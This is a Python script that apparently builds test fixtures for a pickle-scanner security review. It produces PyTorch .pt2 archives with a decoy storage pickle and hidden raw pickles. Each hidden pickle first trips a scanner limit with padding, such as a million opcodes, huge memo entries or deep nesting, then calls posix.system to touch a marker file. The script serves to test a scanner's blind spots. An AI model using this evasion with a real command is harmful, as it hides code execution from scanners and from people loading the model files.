# torch.export archive whose sample_inputs/model.pt (named a storage by a decoy base/data.pkl, as in
# review39) is a raw pickle that first trips one of the walker's own limits, then runs the payload.
# The storage-probe branch of src/scan/container.rs reports only globals, never a stop at a limit.
import torch, zipfile, io, os, pickle, collections, sys
here = os.path.dirname(os.path.abspath(__file__))
class M(torch.nn.Module):
    def __init__(s):
        super().__init__(); s.l = torch.nn.Linear(2, 2)
    def forward(s, x): return s.l(x)
base = os.path.join(here, "base.pt2")
if not os.path.exists(base):
    ep = torch.export.export(M(), (torch.randn(1, 2),))
    torch.export.save(ep, base)
def body(tag):
    return b"cposix\nsystem\n(Vtouch /tmp/review39b/pwned_%s\ntR." % tag.encode()
variants = {
    'nones': b"\x80\x02" + b"N" * ((1 << 20) + 16),
    'marks': b"\x80\x02" + b"(" * ((1 << 20) + 16),
    'longtext': b"\x80\x02" + b"V" + b"a" * (70 << 10) + b"\n0",
    'longstr': b"\x80\x02" + b"S'" + b"a" * (70 << 10) + b"'\n0",
    'globals': b"\x80\x02" + b"c__builtin__\nint\n0" * 4100,
    'memo': b"\x80\x02" + b"".join(b"B" + (1 << 20).to_bytes(4, "little") + b"\0" * (1 << 20) + b"q" + bytes([i]) + b"0" for i in range(70)),
    'nest': b"\x80\x02" + b"]" * 50 + b"0" * 50,
}
def decoy_pickle(keys_sizes):
    class Pk(pickle.Pickler):
        def persistent_id(self, obj):
            if isinstance(obj, tuple) and obj and obj[0] == "PID":
                return obj[1]
            return None
    class T:
        def __init__(s, key, n): s.key, s.n = key, n
        def __reduce__(s):
            return (torch._utils._rebuild_tensor_v2,
                    (("PID", ("storage", torch.ByteStorage, s.key, "cpu", s.n)), 0, (s.n,), (1,), False,
                     collections.OrderedDict()))
    buf = io.BytesIO()
    Pk(buf, protocol=2).dump({f"t{i}": T(k, n) for i, (k, n) in enumerate(keys_sizes)})
    return buf.getvalue()

for tag, pre in variants.items():
    nested = pre + body("pt2_" + tag)
    out = os.path.join(here, f"pt2_{tag}.pt2")
    zin = zipfile.ZipFile(base)
    with zipfile.ZipFile(out, "w") as zo:
        for i in zin.infolist():
            d = zin.read(i.filename)
            if i.filename.endswith("sample_inputs/model.pt"):
                d = nested
            zo.writestr(i, d)
        zo.writestr("base/data.pkl", decoy_pickle([("sample_inputs/model.pt", len(nested))]))
    open(os.path.join(here, f"raw_{tag}.pkl"), "wb").write(nested)
